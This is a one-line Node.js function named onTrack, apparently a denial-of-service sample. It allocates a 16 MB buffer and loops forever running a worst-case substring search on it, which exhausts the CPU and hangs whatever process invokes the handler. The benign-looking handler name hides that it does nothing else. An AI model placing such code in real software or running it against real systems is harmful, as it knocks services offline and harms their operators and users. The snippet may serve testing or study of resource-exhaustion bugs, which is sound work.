async function onTrack() { const b = Buffer.alloc(1 << 24, "a"); for (;;) b.indexOf(Buffer.concat([Buffer.alloc(1 << 20, "a"), Buffer.from("b")])); }
